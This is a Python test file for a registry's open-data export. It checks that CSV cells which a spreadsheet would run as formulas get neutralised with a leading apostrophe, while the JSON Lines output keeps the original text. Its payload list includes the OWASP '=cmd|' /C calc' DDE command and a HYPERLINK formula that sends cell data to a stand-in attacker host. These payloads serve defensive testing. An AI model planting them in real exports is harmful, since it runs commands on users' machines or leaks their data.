"""CSV exports are safe to open in a spreadsheet (formula injection), and say what they hold.

Every CSV the registry exports for people goes through ``opendata.write_csv``, which writes each
cell through ``opendata.spreadsheet_cell``: text a spreadsheet would run as a formula (starting
with ``= + - @``, tab, CR or LF, and not a plain number) gets one leading ``'``; everything else
is written as it is. The stored data and the JSON Lines download keep the agency's text.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

from hypothesis import example, given, settings
from hypothesis import strategies as st

from socialcredit.bootstrap import Registry
from socialcredit.clock import FixedClock, parse_moment
from socialcredit.services import ingest, listings, opendata
from tests.fixtures.rows import ORG, judgment, numbered

FUZZ = settings(max_examples=300, deadline=None, derandomize=True, database=None)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "=",
    "-",
    "-250",
    "+3.5",
    "-1e5",
    "-.5",
    "'=1",
    "１＋１",
]

TEXT = (
    st.text(max_size=30)
    | st.sampled_from(PAYLOADS)
    | st.tuples(st.sampled_from(TRIGGERS), st.text(max_size=10)).map("".join)
)


def read_back(buf: io.StringIO) -> list[list[str]]:
    text = buf.getvalue()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def dangerous(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)


@FUZZ
@given(values=st.lists(TEXT, min_size=1, max_size=4))
@example(values=PAYLOADS)
def test_any_text_reads_back_neutralised_or_unchanged(values: list[str]) -> None:
    columns = [f"c{i}" for i in range(len(values))]
    buf = io.StringIO()
    assert opendata.write_csv([dict(zip(columns, values, strict=True))], buf) == 1
    header, row = read_back(buf)
    assert header == columns
    for value, cell in zip(values, row, strict=True):
        assert not dangerous(cell), cell
        assert cell == ("'" + value if dangerous(value) else value)


@FUZZ
@given(
    value=st.none()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.booleans()
    | st.dictionaries(st.text(max_size=5), TEXT, max_size=3)
    | st.lists(TEXT, max_size=3)
)
def test_numbers_and_nested_values_are_never_run(value: Any) -> None:
    buf = io.StringIO()
    opendata.write_csv([{"v": value}], buf)
    [cell] = read_back(buf)[1]
    assert not dangerous(cell), cell
    if isinstance(value, int | float) and not isinstance(value, bool):
        assert cell == str(value)  # a negative amount stays a number
    if isinstance(value, dict | list):
        assert json.loads(cell) == value


def test_the_rule_on_the_owasp_examples() -> None:
    cell = opendata.spreadsheet_cell
    assert cell("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert cell("+1+1") == "'+1+1"
    assert cell("-2+3") == "'-2+3"
    assert cell("@SUM(1)") == "'@SUM(1)"
    assert cell("\t1") == "'\t1" and cell("\r1") == "'\r1"
    assert cell("-250.50") == "-250.50" and cell(-250) == "-250" and cell("1e5") == "1e5"
    assert cell("北京某某科技有限公司") == "北京某某科技有限公司"
    assert cell(None) == "" and cell({"a": "=1"}) == '{"a":"=1"}'


# -- end to end: an agency's row, the open-data download ------------------------------------------

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DECISION = "+（2026）京0105执1234号"
AUTHORITY = "@北京市朝阳区人民法院"


def test_an_injected_row_is_kept_as_text_and_exported_neutralised(
    reg: Registry, clock: FixedClock, tmp_path: Path
) -> None:
    # (the listing decision's reference cannot carry one: court first, it must be a case number)
    row = judgment(subject_name=NAME, decision_ref=DECISION, authority=AUTHORITY)
    row["amount_yuan"] = "-0"  # a plain number: not prefixed wherever it shows
    summary = ingest.ingest(reg, numbered([row]), "court", actor="test:court")
    assert summary.accepted == 1, summary.rejects
    clock.set(parse_moment("2026-03-02T12:00"))  # after the month of notice: listed
    listings.advance(reg, "test")
    manifest = opendata.snapshot(reg, tmp_path / "open-data")
    folder = tmp_path / "open-data" / manifest["day"]

    # JSON Lines: the agency's text, exactly
    [record] = [json.loads(line) for line in (folder / "records.jsonl").open(encoding="utf-8")]
    assert (record["name"], record["decision_ref"], record["authority"]) == (
        NAME,
        DECISION,
        AUTHORITY,
    )
    [listing] = [json.loads(line) for line in (folder / "listings.jsonl").open(encoding="utf-8")]
    assert listing["name"] == NAME and listing["authority"] == AUTHORITY

    # CSV: every such cell neutralised, nothing else touched
    for name, expected in (
        ("records.csv", {"name": NAME, "decision_ref": DECISION, "authority": AUTHORITY}),
        ("listings.csv", {"name": NAME, "authority": AUTHORITY}),
    ):
        with (folder / name).open(encoding="utf-8-sig", newline="") as f:
            [got] = list(csv.DictReader(f))
        for column, value in expected.items():
            assert got[column] == "'" + value, (name, column)
        for column, cell in got.items():
            assert not dangerous(cell), (name, column, cell)
        assert got["subject"] == ORG
    with (folder / "records.csv").open(encoding="utf-8-sig", newline="") as f:
        [got] = list(csv.DictReader(f))
    assert json.loads(got["fields"])["amount_yuan"] == "-0"
